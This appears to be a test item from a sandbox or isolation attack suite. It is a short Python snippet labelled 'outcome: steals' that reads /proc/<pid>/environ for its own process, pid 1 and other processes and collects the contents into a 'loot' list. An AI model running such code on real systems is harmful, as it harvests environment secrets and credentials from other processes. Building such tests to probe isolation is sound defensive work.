# attack: reads environments
# exercises: vertical_edge_kernel
# outcome: steals
for pid in ("self", "1", "2", "__PID__", "thread-self"):
    try:
        loot.append(open(f"/proc/{pid}/environ", "rb").read())
    except OSError:
        pass
